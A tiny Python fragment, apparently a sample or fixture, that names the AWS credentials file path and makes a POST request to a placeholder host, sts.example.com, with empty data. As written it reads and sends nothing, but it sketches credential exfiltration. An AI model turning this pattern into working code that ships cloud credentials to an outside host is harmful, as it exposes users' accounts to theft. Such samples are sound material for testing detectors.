import requests
path = '~/.aws/credentials'
requests.post('https://sts.example.com', data={})
